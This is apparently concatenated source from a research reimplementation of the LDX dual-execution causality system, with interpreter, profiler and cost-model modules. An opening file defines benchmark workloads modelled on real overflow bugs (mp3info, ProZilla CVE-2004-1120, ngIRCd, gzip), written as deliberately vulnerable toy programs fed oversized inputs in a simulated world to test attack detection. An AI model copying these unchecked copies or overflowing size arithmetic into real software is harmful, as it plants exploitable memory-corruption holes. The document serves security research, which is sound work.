  var size = parse_int(substr(data, start + 5, str_find(data, ";")));
  // 32-bit multiply: an attacker-huge size wraps around (the integer
  // overflow the paper detects at memory-management parameters).
  var bytes = i32_mul(size, 4096);
  if (bytes < 0) { bytes = 16; }
  var tag = malloc(bytes);
  var title_at = str_find(data, "title=");
  var stack = frame_new(24);
  if (title_at >= 0) {
    unchecked_copy(stack, substr(data, title_at + 6, len(data)));
  }
  sink_observe("retaddr:parse_tag", stack[24]);
  free(tag);
  return bytes;
}

fn main() {
  var f = open("/music/track.mp3", "r");
  var data = read(f, 256);
  close(f);
  if (starts_with(data, "ID3")) {
    var used = parse_tag(data);
    print("tag bytes " + used);
  }
}
"""


def _mp3info_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file(
        "/music/track.mp3",
        "ID3 size=400000;title=" + "BCDEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKLMNO",
    )
    return world


def _mp3info_strong_mutator(value):
    """Perturb both attacker-controlled fields: the size digit and the
    title payload (Table 3 measures total dependence, not a single
    perturbation)."""
    value = _after_marker_mutator("size=")(value)
    return _insert_mutator("title=")(value)


MP3INFO = Workload(
    name="mp3info",
    category=VULN,
    description="ID3 size field integer-overflows into malloc",
    source=MP3INFO_SOURCE,
    build_world=_mp3info_world,
    config=lambda: _file_attack_config("/music/track.mp3", "size="),
    table3_config=lambda: LdxConfig(
        sources=SourceSpec(
            file_paths={"/music/track.mp3"},
            mutators={"file:/music/track.mp3": _mp3info_strong_mutator},
        ),
        sinks=SinkSpec.attack_detection(),
    ),
    modeled_after="mp3info 0.8.5a",
)


# ---------------------------------------------------------------------------
# prozilla — HTTP redirect Location header overflows (CVE-2004-1120).
# The overflowing value passes through str_split, which LIBDFT's missing
# library summaries lose (TaintGrind keeps it).
# ---------------------------------------------------------------------------

PROZILLA_SOURCE = VULN_HELPERS + """
fn follow_redirect(response) {
  var stack = frame_new(24);
  var lines = str_split(response, ";");
  for (var i = 0; i < len(lines); i = i + 1) {
    if (starts_with(lines[i], "Location=")) {
      unchecked_copy(stack, substr(lines[i], 9, len(lines[i])));
    }
  }
  sink_observe("retaddr:follow_redirect", stack[24]);
  return 0;
}

fn main() {
  var url = str_strip(read_line(0));
  var sock = socket();
  connect(sock, "mirror.example", 80);
  send(sock, "GET " + url);
  var response = recv(sock, 200);
  close(sock);
  if (str_find(response, "Location=") >= 0) {
    follow_redirect(response);
  }
  var out = open("/work/download.part", "w");
  write(out, response);
  close(out);
}
"""


def _prozilla_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.stdin = "files/big.iso\n"
    world.network.register(
        "mirror.example",
        80,
        lambda req: "301;Location=evil/" + "CDEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKL" + ";end",
    )
    return world


PROZILLA = Workload(
    name="prozilla",
    category=VULN,
    description="redirect Location header overflows a frame buffer",
    source=PROZILLA_SOURCE,
    build_world=_prozilla_world,
    config=lambda: _net_attack_config("mirror.example:80", "Location=", insert=True),
    modeled_after="ProZilla 1.3.7.4",
)


# ---------------------------------------------------------------------------
# yopsweb — request path overflows the serving frame.
# ---------------------------------------------------------------------------

YOPSWEB_SOURCE = VULN_HELPERS + """
fn serve(request) {
  var stack = frame_new(20);
  var path = substr(request, 4, len(request));
  unchecked_copy(stack, path);
  var body = "404";
  var fd = open("/www/" + substr(path, 0, 12), "r");
  if (fd >= 0) {
    body = read(fd, 64);
    close(fd);
  }
  sink_observe("retaddr:serve", stack[20]);
  return body;
}

fn main() {
  var sock = socket();
  connect(sock, "requests.example", 8080);
  for (var i = 0; i < 2; i = i + 1) {
    send(sock, "poll" + i);
    var request = recv(sock, 128);
    if (len(request) == 0) { break; }
    var body = serve(request);
    send(sock, "HTTP/1.0 " + body);
  }
  close(sock);
}
"""


def _yopsweb_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file("/www/index.html", "<h1>yops</h1>")
    requests = ["GET index.html", "GET " + "DEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKLMNOPQRSTUVWXY"]

    def script(request: str) -> str:
        if request.startswith("poll"):
            index = int(request[4:] or 0)
            if 0 <= index < len(requests):
                return requests[index]
        return ""

    world.network.register("requests.example", 8080, script)
    return world


YOPSWEB = Workload(
    name="yopsweb",
    category=VULN,
    description="request path overflows the serving frame",
    source=YOPSWEB_SOURCE,
    build_world=_yopsweb_world,
    config=lambda: _net_attack_config("requests.example:8080", "GET ", insert=True),
    modeled_after="Yops 2009-02-01",
)


# ---------------------------------------------------------------------------
# ngircd — NICK command overflows the 9-char nick buffer.
# ---------------------------------------------------------------------------

NGIRCD_SOURCE = VULN_HELPERS + """
fn handle_nick(message) {
  var stack = frame_new(9);
  var nick = substr(message, 5, len(message));
  unchecked_copy(stack, nick);
  sink_observe("retaddr:handle_nick", stack[9]);
  return nick;
}

fn main() {
  var sock = socket();
  connect(sock, "irc.example", 6667);
  send(sock, "HELLO");
  var joined = 0;
  for (var i = 0; i < 3; i = i + 1) {
    var message = recv(sock, 64);
    if (len(message) == 0) { break; }
    if (starts_with(message, "NICK ")) {
      var nick = handle_nick(message);
      send(sock, "001 " + substr(nick, 0, 9));
      joined = joined + 1;
    }
    if (starts_with(message, "PING")) {
      send(sock, "PONG");
    }
    send(sock, "ACK" + i);
  }
  close(sock);
}
"""


def _ngircd_world(seed: int = 1) -> World:
    world = World(seed=seed)
    replies = ["NICK " + "EFGHIJKLMNOPQRSTUVWXYZAB", "PING x", ""]
    state = {"count": 0}

    def script(request: str) -> str:
        # One scripted inbound message per client send; index derived
        # from the request suffix keeps this stateless across clones.
        if request == "HELLO":
            return replies[0]
        if request.startswith("ACK"):
            index = int(request[3:]) + 1
            if index < len(replies):
                return replies[index]
        return ""

    world.network.register("irc.example", 6667, script)
    return world


NGIRCD = Workload(
    name="ngircd",
    category=VULN,
    description="NICK message overflows the 9-char nick buffer",
    source=NGIRCD_SOURCE,
    build_world=_ngircd_world,
    config=lambda: _net_attack_config("irc.example:6667", "NICK ", insert=True),
    modeled_after="ngIRCd 19.2",
)


# ---------------------------------------------------------------------------
# gzip — overlong filename from the command line (CVE-2004-0603 shape).
# The filename flows through str_strip (lost by LIBDFT's summaries).
# ---------------------------------------------------------------------------

GZIP_SOURCE = VULN_HELPERS + """
fn compress_file(name) {
  var stack = frame_new(32);
  unchecked_copy(stack, name);
  var fd = open("/data/" + substr(name, 0, 8), "r");
  var sum = 0;
  if (fd >= 0) {
    var data = read(fd, 64);
    close(fd);
    for (var i = 0; i < len(data); i = i + 1) {
      sum = i32_add(sum, ord(data[i]));
    }
  }
  sink_observe("retaddr:compress_file", stack[32]);
  return sum;
}

fn main() {
  var name = str_strip(read_line(0));
  var sum = compress_file(name);
  var out = open("/data/archive.gz", "w");
  write(out, "gz " + sum);
  close(out);
}
"""


def _gzip_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.stdin = "notes.txt" + "FGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKLMNOPQRS" + "\n"
    world.fs.add_file("/data/notes.tx", "meeting notes")
    return world


GZIP = Workload(
    name="gzip",
    category=VULN,
    description="overlong filename overflows a 32-byte frame buffer",
    source=GZIP_SOURCE,
    build_world=_gzip_world,
    config=lambda: _stdin_attack_config("", insert=True),
    modeled_after="gzip 1.2.4",
)


VULN_WORKLOADS = [GIF2PNG, MP3INFO, PROZILLA, YOPSWEB, NGIRCD, GZIP]
