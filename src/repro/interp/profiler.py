"""Opcode-level profile rendering.

A machine run with ``profile=True`` records, per opcode, how many
instructions executed and how much virtual time their execution charged
(the instruction cost plus any edge actions applied on the instruction's
outgoing transfer; barrier waits resumed later by the driver are not
attributed).  Both backends produce bit-identical histograms — the
profile is a property of the execution, not of the dispatch strategy.

This module turns those histograms into the ``repro profile`` top-N
text report and the JSON artifact.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from repro.interp.machine import MachineStats


def profile_rows(stats: MachineStats) -> List[Tuple[str, int, float, int]]:
    """(opcode, count, virtual_time, elided) rows, busiest first.

    Sorted by count, then virtual time, then name, so the report is
    deterministic even for opcodes that tie.  ``elided`` counts the
    executed instructions of that opcode the sink-relevance pass
    classified outcome-irrelevant (zero without a relevance-carrying
    plan).
    """
    if not stats.profiled:
        return []
    counts = stats.opcode_counts
    times = stats.opcode_time
    elided = stats.opcode_elided or {}
    return sorted(
        (
            (op, counts[op], times.get(op, 0.0), elided.get(op, 0))
            for op in counts
        ),
        key=lambda row: (-row[1], -row[2], row[0]),
    )


def render_profile(stats: MachineStats, title: str, top: int = 10) -> str:
    """A top-N text table for one machine's opcode histogram."""
    rows = profile_rows(stats)
    lines = [f"{title} — {stats.instructions} instructions"]
    if not rows:
        lines.append("  (no profile recorded — run with profiling enabled)")
        return "\n".join(lines)
    total_count = sum(count for _op, count, _t, _e in rows)
    total_time = sum(time for _op, _count, time, _e in rows)
    lines.append(
        f"  {'opcode':<12} {'count':>10} {'%':>6}   {'vtime':>12} {'%':>6}"
        f"   {'elided':>7}"
    )
    for op, count, time, elided in rows[:top]:
        count_share = 100.0 * count / total_count if total_count else 0.0
        time_share = 100.0 * time / total_time if total_time else 0.0
        elided_share = 100.0 * elided / count if count else 0.0
        lines.append(
            f"  {op:<12} {count:>10} {count_share:>5.1f}%   "
            f"{time:>12.2f} {time_share:>5.1f}%   {elided_share:>6.1f}%"
        )
    hidden = len(rows) - min(top, len(rows))
    if hidden > 0:
        lines.append(f"  ... {hidden} more opcode(s)")
    return "\n".join(lines)


def profile_payload(stats: MachineStats) -> Dict[str, object]:
    """JSON-ready summary of one machine's histogram."""
    return {
        "instructions": stats.instructions,
        "edge_actions": stats.edge_actions,
        "syscalls": stats.syscalls,
        "barriers": stats.barriers,
        "opcodes": {
            op: {"count": count, "vtime": time, "elided": elided}
            for op, count, time, elided in profile_rows(stats)
        },
    }


def render_profiles(
    sections: List[Tuple[str, MachineStats]], top: int = 10
) -> str:
    """Concatenated reports for several executions (native/master/slave)."""
    return "\n\n".join(render_profile(stats, title, top) for title, stats in sections)


def profiles_payload(
    sections: List[Tuple[str, MachineStats]],
    workload: Optional[str] = None,
    backend: Optional[str] = None,
) -> Dict[str, object]:
    payload: Dict[str, object] = {
        "schema": "ldx-profile-v2",
        "executions": {title: profile_payload(stats) for title, stats in sections},
    }
    if workload is not None:
        payload["workload"] = workload
    if backend is not None:
        payload["backend"] = backend
    return payload
