"""Virtual-time cost model.

The paper measures wall-clock overhead on two physical CPUs.  We cannot
measure native x86 time from Python, so every execution carries a
virtual clock and this model charges it per activity.  Overhead numbers
(Figure 6) are then *derived the same way the paper derives them*:

    overhead = dual_execution_time / native_time - 1

where dual_execution_time is the max over the two coupled executions'
clocks (they run concurrently on separate CPUs) including stall time.

Calibration notes (documented deviations, see DESIGN.md):

* ``edge_action`` vs ``instruction`` sets the counter-maintenance cost
  relative to ordinary computation; with the observed ~3-4% instrumented
  site density this lands the LDX overhead in the paper's single-digit
  percent range.
* ``taint_per_instruction`` models LIBDFT's inline shadow propagation
  (paper: ~6x slowdown).  ``taintgrind_per_instruction`` models
  Valgrind's translation overhead on top of that (tens of x).
* ``dualex_per_instruction`` models DualEx shipping *every instruction*
  to a monitor process for execution indexing (paper: three orders of
  magnitude).
"""

from __future__ import annotations


class CostModel:
    """Charge rates for the virtual clock, in abstract time units."""

    def __init__(
        self,
        instruction: float = 1.0,
        edge_action: float = 0.12,
        syscall: float = 30.0,
        syscall_shared: float = 6.0,
        barrier: float = 2.0,
        thread_op: float = 40.0,
        retry_backoff: float = 8.0,
        taint_per_instruction: float = 5.0,
        taintgrind_per_instruction: float = 24.0,
        dualex_per_instruction: float = 900.0,
    ) -> None:
        self.instruction = instruction
        self.edge_action = edge_action
        self.syscall = syscall
        self.syscall_shared = syscall_shared
        self.barrier = barrier
        self.thread_op = thread_op
        # Base wait after a transient syscall fault; attempt i waits
        # retry_backoff * 2**i (exponential virtual-time backoff).
        # Charged only when a fault plan is active, so Figure-6 numbers
        # are untouched by the default (fault-free) configuration.
        self.retry_backoff = retry_backoff
        self.taint_per_instruction = taint_per_instruction
        self.taintgrind_per_instruction = taintgrind_per_instruction
        self.dualex_per_instruction = dualex_per_instruction


DEFAULT_COSTS = CostModel()
