"""Local (single-execution) event resolution.

Resolves machine events against the machine's own kernel and thread
services — the behaviour of an uncoupled execution.  Used by the native
runner and the baselines directly, and by the LDX engine whenever a
syscall must execute independently (path differences, tainted
resources, always-independent syscalls).
"""

from __future__ import annotations

from repro.interp.events import BarrierEvent, SyscallEvent
from repro.interp.machine import Machine
from repro.vos.kernel import ProgramExit
from repro.vos.syscalls import THREAD_SYSCALLS


def resolve_syscall_locally(machine: Machine, event: SyscallEvent) -> None:
    """Execute one syscall on the machine's own kernel/thread services."""
    name = event.name
    if name in THREAD_SYSCALLS:
        machine.charge(event.thread_id, machine.costs.thread_op + machine.jitter_units())
        _resolve_thread_syscall(machine, event)
        return
    machine.threads[event.thread_id].clock += machine.syscall_cost()
    kernel = machine.kernel
    try:
        if kernel.faults is None:
            # Fault-free fast path: exactly Machine.execute_syscall
            # without the wrapper (this runs once per syscall in every
            # uncoupled execution).
            value = kernel.execute(name, event.args)
        else:
            value = machine.execute_syscall(event)
    except ProgramExit as program_exit:
        machine.terminate(program_exit.code)
        return
    machine.complete_syscall(event, value)


def _resolve_thread_syscall(machine: Machine, event: SyscallEvent) -> None:
    thread = machine.threads[event.thread_id]
    name = event.name
    args = event.args
    if name == "thread_spawn":
        tid = machine.spawn_thread(args[0], args[1] if len(args) > 1 else None)
        machine.complete_syscall(event, tid)
    elif name == "thread_join":
        if machine.join_thread(thread, args[0]):
            machine.complete_syscall(event, machine.threads[args[0]].result)
        # else: blocked; Machine._wake_joiners completes it later.
    elif name == "mutex_create":
        machine.complete_syscall(event, machine.mutex_create())
    elif name == "mutex_lock":
        if machine.mutex_lock(thread, args[0]):
            machine.complete_syscall(event, 0)
        # else: queued; mutex_unlock completes it later.
    elif name == "mutex_unlock":
        ok = machine.mutex_unlock(thread, args[0])
        machine.complete_syscall(event, 0 if ok else -1)
    else:  # pragma: no cover - THREAD_SYSCALLS is exhaustive
        raise AssertionError(f"unhandled thread syscall {name}")


def resolve_event_locally(machine: Machine, event) -> None:
    """Resolve any event type for an uncoupled execution."""
    if type(event) is SyscallEvent or isinstance(event, SyscallEvent):
        resolve_syscall_locally(machine, event)
    elif isinstance(event, BarrierEvent):
        # No peer: barriers are free passes.
        machine.complete_barrier(event)
    else:  # pragma: no cover
        raise AssertionError(f"unknown event {event!r}")
