"""The MiniC execution machine.

One :class:`Machine` is one program execution (the paper's master *or*
slave).  It interprets the IR instruction by instruction, maintains the
per-thread LDX counter stacks, applies the instrumentation plan's edge
actions on control transfers, and *yields* events (syscalls, loop
barriers) to whatever driver owns it.

The machine is driver-agnostic: the native runner resolves events
locally; the LDX engine couples two machines; the taint baselines hook
every instruction.  Nothing in here knows about dual execution.
"""

from __future__ import annotations

from collections import defaultdict
from typing import Callable, Dict, FrozenSet, List, Optional, Tuple

from repro.errors import BudgetExceededError, FaultInjected, InterpreterError
from repro.instrument.plan import (
    CounterAdd,
    ElidedAdd,
    FunctionPlan,
    LoopExit,
    LoopSync,
    ModulePlan,
)
from repro.interp.builtins import call_builtin
from repro.interp.compile import (
    BACKEND_THREADED,
    CompiledModule,
    compiled_for_module,
    resolve_backend,
)
from repro.interp.costs import DEFAULT_COSTS, CostModel
from repro.interp.events import BarrierEvent, Event, SyscallEvent
from repro.ir import instructions as ins
from repro.ir.function import IRFunction, IRModule
from repro.ir.ops import apply_binop, apply_unop, truthy
from repro.vos.clock import DeterministicRng
from repro.vos.kernel import Kernel

# Thread statuses.
RUNNABLE = "runnable"
WAIT_SYSCALL = "wait-syscall"
WAIT_BARRIER = "wait-barrier"
WAIT_JOIN = "wait-join"
WAIT_MUTEX = "wait-mutex"
DONE = "done"


class Frame:
    """One activation record."""

    __slots__ = ("function", "plan", "index", "locals", "return_dst", "scoped", "code")

    def __init__(
        self,
        function: IRFunction,
        plan: Optional[FunctionPlan],
        return_dst: Optional[str],
        scoped: bool,
    ) -> None:
        self.function = function
        self.plan = plan
        self.index = function.entry
        self.locals: Dict[str, object] = {}
        self.return_dst = return_dst
        self.scoped = scoped
        # Step-closure array under the threaded backend, else None.
        self.code = None


class ThreadState:
    """One thread: frames, counter stack, virtual clock, status."""

    def __init__(self, tid: int) -> None:
        self.tid = tid
        self.frames: List[Frame] = []
        self.counter_stack: List[int] = [0]
        self.clock = 0.0
        self.status = RUNNABLE
        self.result: object = None
        # Set while a syscall awaits its result.
        self.pending_event: Optional[Event] = None
        # (dst, remaining_actions) while a barrier splits an edge.
        self.pending_transition: Optional[Tuple[int, List[object]]] = None
        # tid this thread waits to join.
        self.join_target: Optional[int] = None
        self.waiting_mutex: Optional[int] = None
        # Active barrier-loop records: [frame_depth, function, head, count].
        # Back-edge crossings bump `count`; loop exits pop the record —
        # this is what lets two executions rendezvous on the same
        # iteration of the same loop.
        self.loop_stack: List[List[object]] = []

    @property
    def counter(self) -> Tuple[int, ...]:
        return tuple(self.counter_stack)

    @property
    def done(self) -> bool:
        return self.status == DONE


class MachineStats:
    """Runtime statistics (feeds Table 1's dynamic columns)."""

    def __init__(self) -> None:
        self.instructions = 0
        self.edge_actions = 0
        self.syscalls = 0
        self.barriers = 0
        self.counter_samples: List[int] = []
        self.max_stack_depth = 1
        # Per-opcode histograms, populated only when the machine runs
        # with profiling enabled (None keeps the hot path allocation-
        # and branch-free).
        self.opcode_counts: Optional[Dict[str, int]] = None
        self.opcode_time: Optional[Dict[str, float]] = None
        # Executed instructions the sink-relevance pass classified
        # elidable, per opcode (needs a plan carrying a relevance
        # classification; stays all-zero otherwise).
        self.opcode_elided: Optional[Dict[str, int]] = None

    def enable_profiling(self) -> None:
        if self.opcode_counts is None:
            self.opcode_counts = defaultdict(int)
            self.opcode_time = defaultdict(float)
            self.opcode_elided = defaultdict(int)

    @property
    def profiled(self) -> bool:
        return self.opcode_counts is not None

    @property
    def avg_counter(self) -> float:
        if not self.counter_samples:
            return 0.0
        return sum(self.counter_samples) / len(self.counter_samples)

    @property
    def max_counter(self) -> int:
        return max(self.counter_samples, default=0)


class Machine:
    """One program execution over a kernel, surfacing events."""

    def __init__(
        self,
        module: IRModule,
        kernel: Kernel,
        plan: Optional[ModulePlan] = None,
        costs: CostModel = None,
        name: str = "exec",
        schedule_seed: int = 0,
        max_instructions: int = 50_000_000,
        backend: Optional[str] = None,
        profile: bool = False,
    ) -> None:
        self.module = module
        self.kernel = kernel
        self.plan = plan
        self.costs = costs or DEFAULT_COSTS
        self.name = name
        self.globals: Dict[str, object] = dict(module.global_values)
        self.threads: List[ThreadState] = []
        self.stats = MachineStats()
        self.finished = False
        self.exit_code: Optional[int] = None
        self.max_instructions = max_instructions
        # Mutex id -> owner tid (None when free) and FIFO wait queues.
        self._mutex_owner: Dict[int, Optional[int]] = {}
        self._mutex_queue: Dict[int, List[int]] = {}
        # Scheduling jitter source — models racy thread interleavings.
        self._sched_rng = DeterministicRng(schedule_seed * 7919 + 17)
        # Optional per-instruction hook: hook(thread, frame, instr).
        # Used by the taint and DualEx baselines.  Stored behind a
        # property: assigning a hook invalidates the cached driver
        # loop (which must switch to the hook-aware switch driver).
        self._instr_hook: Optional[Callable[[ThreadState, Frame, ins.Instr], None]] = None
        # Events raised while servicing a driver call (e.g. a barrier on
        # the edge just past a completed syscall); drained first.
        self._deferred_events: List[Event] = []
        # Optional callback fired on every successful lock acquisition:
        # lock_hook(mutex_id, tid).  The LDX engine uses it to record
        # (master) and track (slave) lock acquisition order.
        self.lock_hook: Optional[Callable[[int, int], None]] = None
        # Optional frame-boundary hooks for analyses that mirror the
        # call stack (taint tracking, execution indexing):
        #   call_hook(thread, caller_frame, callee_frame, instr)
        #   return_hook(thread, popped_frame, caller_frame, dst, value)
        self.call_hook = None
        self.return_hook = None
        # Interpreter backend: "switch" walks the type-dispatch chain;
        # "threaded" executes pre-compiled step closures.  Profiling
        # runs unfused code so each step is exactly one instruction.
        self.backend = resolve_backend(backend)
        self._profile = profile
        # Per-function elidable index sets for profile attribution
        # (which executed instructions the relevance pass would let a
        # backend skip counter work for).
        self._elidable: Optional[Dict[str, FrozenSet[int]]] = None
        if profile:
            self.stats.enable_profiling()
            relevance = getattr(plan, "relevance", None)
            if relevance is not None:
                self._elidable = {
                    fn_name: fn_rel.elidable
                    for fn_name, fn_rel in relevance.functions.items()
                }
        self._code: Optional[CompiledModule] = (
            compiled_for_module(module, plan, fuse=not profile)
            if self.backend == BACKEND_THREADED
            else None
        )
        self._spawn_main()

    # -- setup -------------------------------------------------------------------

    def _plan_for(self, function_name: str) -> Optional[FunctionPlan]:
        if self.plan is None:
            return None
        return self.plan.functions.get(function_name)

    def _new_frame(
        self,
        function: IRFunction,
        return_dst: Optional[str],
        scoped: bool,
    ) -> Frame:
        frame = Frame(function, self._plan_for(function.name), return_dst, scoped)
        if self._code is not None:
            frame.code = self._code.steps_for(function.name)
        return frame

    def _spawn_main(self) -> None:
        main = self.module.function("main")
        thread = ThreadState(0)
        thread.frames.append(self._new_frame(main, None, False))
        self.threads.append(thread)

    # -- public driving API ---------------------------------------------------------

    @property
    def time(self) -> float:
        """The machine's virtual time = max over its threads."""
        return max((thread.clock for thread in self.threads), default=0.0)

    def runnable_threads(self) -> List[ThreadState]:
        return [t for t in self.threads if t.status == RUNNABLE]

    def has_pending_work(self) -> bool:
        """True when next_event() can make progress without the driver."""
        if self.finished:
            return False
        if self._deferred_events or self.runnable_threads():
            return True
        # All threads done: one more next_event() call flips `finished`.
        if all(thread.done for thread in self.threads):
            return True
        # A joiner whose target finished resumes without the driver.
        for thread in self.threads:
            if thread.status == WAIT_JOIN and self.threads[thread.join_target].done:
                return True
        return False

    def next_event(self) -> Optional[Event]:
        """Advance until the next event.

        Returns None when execution finished *or* when every live
        thread is blocked on the driver (check ``finished`` to tell the
        two apart).  Raises InterpreterError on internal deadlock (all
        threads blocked on machine-internal conditions).
        """
        while not self.finished:
            threads = self.threads
            if len(threads) == 1 and not self._deferred_events:
                # Single-thread fast path: no joiners to wake, no
                # scheduling choice to make (and no RNG draw — the
                # general path only draws on ties between >= 2
                # candidates), so behaviour is identical.
                thread = threads[0]
                status = thread.status
                if status == RUNNABLE:
                    event = self._run_thread(thread)
                    if event is not None:
                        return event
                    continue
                if status == DONE:
                    self.finished = True
                    return None
                if status in (WAIT_SYSCALL, WAIT_BARRIER):
                    return None
                raise InterpreterError(f"{self.name}: thread deadlock")
            # One fused pass over the threads collects the runnable set
            # (and its least clock) and notices waiting joiners — the
            # same work _wake_joiners + runnable_threads + _pick_thread
            # did in three passes, with identical RNG draws.
            runnable = None
            least = 0.0
            have_joiner = False
            for t in threads:
                status = t.status
                if status == RUNNABLE:
                    clock = t.clock
                    if runnable is None:
                        runnable = [t]
                        least = clock
                    else:
                        runnable.append(t)
                        if clock < least:
                            least = clock
                elif status == WAIT_JOIN:
                    have_joiner = True
            if have_joiner:
                woke = self._wake_joiners()
                if self._deferred_events:
                    return self._deferred_events.pop(0)
                if woke:
                    # Woken joiners changed the runnable set; recompute.
                    continue
            if self._deferred_events:
                return self._deferred_events.pop(0)
            if runnable is None:
                if all(t.done for t in self.threads):
                    self.finished = True
                    return None
                blocked_externally = [
                    t
                    for t in self.threads
                    if t.status in (WAIT_SYSCALL, WAIT_BARRIER)
                ]
                if blocked_externally:
                    # The driver owes us a resolution; yield control.
                    return None
                raise InterpreterError(f"{self.name}: thread deadlock")
            if len(runnable) == 1:
                thread = runnable[0]
            else:
                # Discrete-event choice: least virtual time first; ties
                # broken by seeded jitter (the source of racy
                # interleavings).  Identical to _pick_thread: the RNG
                # draws only on ties between >= 2 candidates.
                bound = least + 1e-9
                candidates = [t for t in runnable if t.clock <= bound]
                if len(candidates) == 1:
                    thread = candidates[0]
                else:
                    thread = candidates[self._sched_rng.next_int(len(candidates))]
            event = self._run_thread(thread)
            if event is not None:
                return event
        return None

    def _pick_thread(self, runnable: List[ThreadState]) -> ThreadState:
        """Discrete-event choice: least virtual time first; ties broken
        by seeded jitter (the source of racy interleavings)."""
        least = min(t.clock for t in runnable)
        candidates = [t for t in runnable if t.clock <= least + 1e-9]
        if len(candidates) == 1:
            return candidates[0]
        return candidates[self._sched_rng.next_int(len(candidates))]

    def complete_syscall(self, event: SyscallEvent, value: object) -> None:
        """Deliver a syscall result and resume the thread.

        Runs once per syscall in every execution, coupled or not, so
        ``_write``/``_single_successor``/``_advance`` are inlined here
        (identical semantics; the edge-action path still routes through
        ``_apply_actions``).
        """
        thread = self.threads[event.thread_id]
        if thread.pending_event is not event:
            raise InterpreterError(f"{self.name}: stale syscall completion")
        frame = thread.frames[-1]
        function = frame.function
        index = frame.index
        name = function.instrs[index].dst
        locals_ = frame.locals
        if name in self.globals and name not in locals_:
            self.globals[name] = value
        else:
            locals_[name] = value
        thread.pending_event = None
        thread.status = RUNNABLE
        succs = function.successors(index)
        if len(succs) != 1:  # pragma: no cover - syscalls fall through
            raise InterpreterError("expected a unique successor")
        dst = succs[0]
        plan = frame.plan
        actions = plan.actions_for(index, dst) if plan is not None else None
        if actions:
            deferred = self._apply_actions(thread, frame, dst, list(actions))
            if deferred is not None:
                self._deferred_events.append(deferred)
        else:
            frame.index = dst

    def complete_barrier(self, event: BarrierEvent) -> None:
        """Release a thread blocked at a loop back-edge barrier."""
        thread = self.threads[event.thread_id]
        if thread.pending_event is not event:
            raise InterpreterError(f"{self.name}: stale barrier completion")
        thread.pending_event = None
        thread.status = RUNNABLE

    def terminate(self, code: int = 0) -> None:
        """End the whole process (exit syscall or fatal error)."""
        for thread in self.threads:
            thread.status = DONE
        self.exit_code = code
        self.finished = True

    def abandon_thread(self, tid: int) -> None:
        """Give up on one thread (the watchdog's last escalation rung):
        it terminates with a nil result, its held mutexes are released
        so peers can proceed, and joiners resume normally."""
        thread = self.threads[tid]
        thread.pending_event = None
        thread.pending_transition = None
        thread.waiting_mutex = None
        thread.status = DONE
        for mutex_id, owner in list(self._mutex_owner.items()):
            if owner == tid:
                self.mutex_unlock(thread, mutex_id)
        for queue in self._mutex_queue.values():
            if tid in queue:
                queue.remove(tid)

    def charge(self, thread_id: int, amount: float) -> None:
        """Add cost to a thread's clock (drivers charge syscall costs)."""
        self.threads[thread_id].clock += amount

    def syscall_cost(self) -> float:
        """One syscall's latency, with seeded jitter (+/-15%).

        Real syscall latencies vary; the jitter perturbs thread
        interleavings the same way OS scheduling noise does — the
        run-to-run nondeterminism Table 4 studies.
        """
        jitter = 0.85 + 0.3 * (self._sched_rng.next_int(1000) / 1000.0)
        return self.costs.syscall * jitter

    def jitter_units(self, scale: float = 6.0) -> float:
        """A small seeded latency perturbation (0..scale units)."""
        return scale * (self._sched_rng.next_int(1000) / 1000.0)

    def wait_until(self, thread_id: int, time: float) -> None:
        """Model a spin-wait: the thread's clock jumps to *time*."""
        thread = self.threads[thread_id]
        if time > thread.clock:
            thread.clock = time

    # -- fault-tolerant syscall execution ---------------------------------------

    def execute_syscall(self, event):
        """Run the event's syscall on this machine's kernel.

        With a fault plan attached, transient injected faults are
        retried with bounded exponential virtual-time backoff (each
        failed attempt costs a syscall entry plus the backoff wait,
        charged through the cost model so overhead accounting stays
        honest), and injected short reads are completed by continuation
        reads.  Faults outlasting the retry budget surface as the
        syscall's C-convention failure value — the program, and then
        the engine's taint/decoupling ladder, take it from there.
        Without a plan this is exactly ``kernel.execute``.
        """
        kernel = self.kernel
        plan = kernel.faults
        if plan is None:
            return kernel.execute(event.name, event.args)
        try:
            result = kernel.execute(event.name, event.args)
        except FaultInjected as failure:
            return self._retry_transient(event, failure.fault)
        fault = plan.last_injection
        if fault is not None and fault.kind == "short-read":
            return self._finish_short_read(event, result)
        return result

    def _retry_transient(self, event, fault):
        """Bounded retry-with-backoff for a transient fault burst."""
        plan = self.kernel.faults
        tid = event.thread_id
        budget = plan.config.max_retries
        attempts = min(fault.failures, budget)
        for attempt in range(attempts):
            # Unjittered syscall entry cost: drawing jitter here would
            # consume the scheduling RNG stream, desyncing every later
            # syscall's jitter from the fault-free run — fault overhead
            # must be strictly additive on top of identical baselines.
            self.charge(
                tid, self.costs.syscall + self.costs.retry_backoff * (2 ** attempt)
            )
        if fault.failures > budget:
            plan.note_exhausted(event.name)
            return fault.fallback
        plan.note_retries(attempts)
        return self.kernel.execute(event.name, event.args, inject=False)

    def _finish_short_read(self, event, first):
        """Continuation reads until the original request is satisfied
        (or true EOF) — the robust-read loop that makes an injected
        short read indistinguishable from an uninterrupted one."""
        requested = event.args[1] if len(event.args) > 1 else None
        if not isinstance(first, str) or not isinstance(requested, int):
            return first
        parts = [first]
        received = len(first)
        while received < requested:
            self.charge(event.thread_id, self.costs.retry_backoff)
            more = self.kernel.execute(
                event.name, (event.args[0], requested - received), inject=False
            )
            if not isinstance(more, str) or not more:
                break
            parts.append(more)
            received += len(more)
        return "".join(parts)

    # -- thread services (called by drivers to resolve thread syscalls) -------------

    def spawn_thread(self, func_ref, arg) -> int:
        """Create a new thread running func_ref(arg); returns its tid."""
        if not isinstance(func_ref, ins.FuncRef):
            raise InterpreterError("thread_spawn() needs a function reference")
        function = self.module.function(func_ref.name)
        if len(function.params) != 1:
            raise InterpreterError("thread entry function must take 1 parameter")
        thread = ThreadState(len(self.threads))
        frame = self._new_frame(function, None, False)
        frame.locals[function.params[0]] = arg
        thread.frames.append(frame)
        # The child starts at the spawner's current virtual time.
        spawner_clock = max((t.clock for t in self.threads), default=0.0)
        thread.clock = spawner_clock
        self.threads.append(thread)
        return thread.tid

    def join_thread(self, thread: ThreadState, target_tid) -> bool:
        """Try to join; True when completed immediately (result stored
